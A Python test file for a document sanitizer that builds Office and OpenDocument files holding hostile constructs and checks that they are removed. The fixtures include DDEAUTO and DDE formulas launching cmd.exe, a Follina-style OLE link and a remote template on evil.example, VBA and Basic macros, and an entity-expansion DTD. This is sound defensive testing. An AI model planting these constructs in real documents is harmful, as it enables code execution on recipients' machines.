"""`mugai file sanitize` on OOXML and ODF: each hostile construct of issue 3
§10, checked with Python's zipfile and an XML parse of every part."""
import re
import zipfile

from test_file_util import make_zip, parse_all_xml, parts, sanitize

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def content_types(main_part, main_type, extra=""):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="%s"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/%s" ContentType="%s"/>%s</Types>' % (CT, main_part, main_type, extra))


def rels(*items):
    body = "".join('<Relationship Id="%s" Type="%s%s" Target="%s"%s/>' % (
        i, RT, t, target, ' TargetMode="External"' if ext else "") for i, t, target, ext in items)
    return '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">%s</Relationships>' % (PR, body)


def document(body):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="%s" xmlns:r="%s" xmlns:o="urn:schemas-microsoft-com:office:office">'
            '<w:body>%s</w:body></w:document>' % (W, R, body))


def docx(body, doc_rels=(), main_type=DOCX_MAIN, extra_parts=(), settings_rels=None):
    entries = [
        ("[Content_Types].xml", content_types("word/document.xml", main_type)),
        ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml", False))),
        ("word/document.xml", document(body)),
        ("word/_rels/document.xml.rels", rels(*doc_rels)),
    ]
    if settings_rels:
        entries += [("word/settings.xml", '<w:settings xmlns:w="%s" xmlns:r="%s">'
                     '<w:attachedTemplate r:id="rId1"/></w:settings>' % (W, R)),
                    ("word/_rels/settings.xml.rels", rels(*settings_rels))]
    return make_zip(entries + list(extra_parts))


RUN = '<w:p><w:r><w:t>本文 keep me</w:t></w:r></w:p>'


def ok(data, name, want_type, want_out):
    rc, rep, out = sanitize(data, name)
    assert rc == 0
    assert rep["verdict"] == "sanitized", rep
    assert (rep["type"], rep["out_type"]) == (want_type, want_out)
    p = parts(out)
    roots = parse_all_xml(p)
    for n, data in p.items():
        assert not re.search(r"vbaProject|activeX|embeddings/|externalLinks/|oleObject", n), n
        if n.endswith(".rels"):
            assert b'TargetMode="External"' not in data, n
        assert b"altChunk" not in data and b"DDEAUTO" not in data.upper()
        assert b"macroEnabled" not in data, n
    return rep, p, roots


def test_docm_vba_removed_and_type_changed():
    src = docx(RUN, [("rId9", "vbaProject", "vbaProject.bin", False)], DOCM_MAIN,
               [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 fake vba"),
                ("word/vbaData.xml", "<wne:vbaSuppData xmlns:wne='http://schemas.microsoft.com/office/word/2006/wordml'/>")])
    rep, p, roots = ok(src, "a.docm", "docm", "docx")
    assert "word/vbaProject.bin" not in p and "word/vbaData.xml" not in p
    ct = p["[Content_Types].xml"].decode()
    assert DOCX_MAIN in ct and "vbaProject" not in ct
    assert "本文 keep me" in p["word/document.xml"].decode()
    assert "type-converted: docm to docx" in rep["actions"]


def test_external_template_and_follina_oleobject():
    body = RUN + '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId7" ProgID="htmlfile"/></w:object></w:r></w:p>'
    src = docx(body, [("rId7", "oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", True)],
               settings_rels=[("rId1", "attachedTemplate", "http://evil.example/t.dotm", True)])
    rep, p, roots = ok(src, "b.docx", "docx", "docx")
    assert b"evil.example" not in b"".join(p.values())
    assert b"OLEObject" not in p["word/document.xml"]


def test_ddeauto_field_removed():
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>' + RUN)
    rep, p, roots = ok(docx(body), "c.docx", "docx", "docx")
    doc = p["word/document.xml"]
    assert b"calc" not in doc and b"DDE" not in doc
    assert b"shown" in doc  # the field result stays as text


def test_hyperlink_becomes_plain_text():
    body = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>'
    rep, p, roots = ok(docx(body, [("rId5", "hyperlink", "http://evil.example/", True)]),
                       "d.docx", "docx", "docx")
    assert b"click" in p["word/document.xml"] and b"rId5" not in p["word/document.xml"]


def test_altchunk_and_activex_removed():
    body = RUN + '<w:altChunk r:id="rId3"/><w:p><w:r><w:control r:id="rId4"/></w:r></w:p>'
    src = docx(body, [("rId3", "aFChunk", "afchunk.mht", False),
                      ("rId4", "control", "activeX/activeX1.xml", False)],
               extra_parts=[("word/afchunk.mht", "MIME-Version: 1.0\r\n\r\n<script>x</script>"),
                            ("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"),
                            ("word/activeX/activeX1.bin", b"\x00\x01")])
    rep, p, roots = ok(src, "e.docx", "docx", "docx")
    assert "word/afchunk.mht" not in p


def test_xlsx_external_link_and_dde_formula():
    wb = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
          '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
          '<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>' % R)
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>'
             '<c r="B1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>')
    src = make_zip([
        ("[Content_Types].xml", content_types("xl/workbook.xml", XLSX_MAIN)),
        ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml", False))),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml", False),
                                            ("rId2", "externalLink", "externalLinks/externalLink1.xml", False))),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/externalLinks/externalLink1.xml", "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'/>"),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", rels(("rId1", "externalLinkPath", "file:///\\\\evil\\share\\x.xlsx", True))),
    ])
    rep, p, roots = ok(src, "f.xlsx", "xlsx", "xlsx")
    assert b"externalReference" not in p["xl/workbook.xml"]
    s = p["xl/worksheets/sheet1.xml"]
    assert b"calc" not in s and b"SUM(1,2)" in s


def test_dtd_in_a_part_blocks():
    bomb = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            '<w:document xmlns:w="%s"><w:body>&b;</w:body></w:document>' % W)
    src = make_zip([("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN)),
                    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml", False))),
                    ("word/document.xml", bomb)])
    rc, rep, out = sanitize(src, "g.docx")
    assert rep["verdict"] == "blocked" and "DTD" in rep["reason"] and out is None


def test_part_that_does_not_parse_blocks():
    src = make_zip([("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN)),
                    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml", False))),
                    ("word/document.xml", "<w:document><unclosed>")])
    rc, rep, out = sanitize(src, "h.docx")
    assert rep["verdict"] == "blocked" and "does not parse" in rep["reason"] and out is None


def test_odt_scripts_objects_links_removed():
    m = "urn:oasis:names:tc:opendocument:xmlns:"
    content = ('<office:document-content xmlns:office="%soffice:1.0" xmlns:text="%stext:1.0" '
               'xmlns:script="%sscript:1.0" xmlns:draw="%sdrawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
               '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Evil?language=Basic"/></office:event-listeners></office:scripts>'
               '<office:body><office:text><text:p>日本語 <text:a xlink:href="http://evil.example/">link</text:a></text:p>'
               '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></office:text></office:body>'
               '</office:document-content>' % (m, m, m, m))
    manifest = ('<manifest:manifest xmlns:manifest="%smanifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>' % m)
    src = make_zip([("mimetype", "application/vnd.oasis.opendocument.text"),
                    ("content.xml", content), ("META-INF/manifest.xml", manifest),
                    ("Basic/Standard/Module1.xml", "<script:module/>"),
                    ("Object 1/content.xml", "<x/>")], zipfile.ZIP_STORED)
    rc, rep, out = sanitize(src, "i.odt")
    assert rep["verdict"] == "sanitized" and rep["type"] == "odt" and rep["out_type"] == "odt", rep
    p = parts(out)
    parse_all_xml(p)
    z = zipfile.ZipFile(__import__("io").BytesIO(out))
    assert z.infolist()[0].filename == "mimetype" and z.infolist()[0].compress_type == zipfile.ZIP_STORED
    assert not any(n.startswith(("Basic/", "Object 1")) for n in p)
    c = p["content.xml"]
    assert b"event-listener" not in c and b"draw:object" not in c and b"evil.example" not in c
    assert "日本語 link".encode() in c
    assert b"Basic/" not in p["META-INF/manifest.xml"]


def test_policy_remove_blocks_office():
    rc, rep, out = sanitize(docx(RUN), "j.docx", config="office_policy = remove\n")
    assert rep["verdict"] == "blocked" and "office_policy" in rep["reason"]
